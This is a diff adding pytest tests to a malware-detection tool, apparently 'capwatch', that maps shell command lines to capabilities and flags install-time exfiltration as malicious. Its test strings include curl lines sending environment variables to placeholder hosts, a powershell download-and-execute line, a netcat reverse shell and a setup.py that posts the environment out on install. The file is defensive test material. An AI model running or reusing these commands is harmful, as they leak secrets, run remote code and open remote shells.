@@ -1,0 +1,47 @@
+"""Command lines handed to shells and processes map to the same capabilities as Python APIs."""
+
+from __future__ import annotations
+
+import pytest
+
+from capwatch.capabilities.shell import commands, shell_capabilities
+from capwatch.engine import scan_bytes
+from capwatch.model import Phase
+from tests.helpers import sdist_bytes
+
+
+@pytest.mark.parametrize(
+    ("line", "programs"),
+    [
+        ('curl "https://x.invalid/$(env | base64 -w 0)"', ["curl", "env", "base64"]),
+        ("cmd /c start helper.bat", ["cmd", "start"]),
+        ("powershell -w hidden -c iwr http://x | iex", ["powershell", "iwr", "iex"]),
+        ("FOO=1 sudo wget -O /tmp/x http://a/b && chmod +x /tmp/x", ["wget", "chmod"]),
+        ('sh -c "nc 203.0.113.5 4444 -e /bin/sh"', ["sh", "nc"]),
+        ("env > out.txt", ["env"]),
+    ],
+)
+def test_programs_of_command_lines(line: str, programs: list[str]) -> None:
+    found = list(commands(line))
+    for program in programs:
+        assert program in found
+
+
+def test_capabilities_of_a_command_line() -> None:
+    caps = {c for c, _ in shell_capabilities('curl -d "$(printenv)" https://x.invalid; whoami')}
+    assert {"net.http.request", "host.env.dump", "host.fingerprint"} <= caps
+
+
+def test_build_tools_have_no_capabilities() -> None:
+    assert shell_capabilities("cmake --build . && make -j4 && git describe --tags") == set()
+
+
+def test_install_time_shell_exfiltration_is_malicious() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl https://collect.example.invalid/ -d \"$(env)\"')\nsetup(name='x')\n"
+    )
+    result = scan_bytes(sdist_bytes({"setup.py": setup}), "x.tar.gz")
+    caps = {(c.id, c.phase) for c in result.capabilities}
+    assert ("net.http.request", Phase.INSTALL) in caps and ("host.env.dump", Phase.INSTALL) in caps
+    assert result.verdict.label == "malicious", [(f.rule, f.message) for f in result.findings]
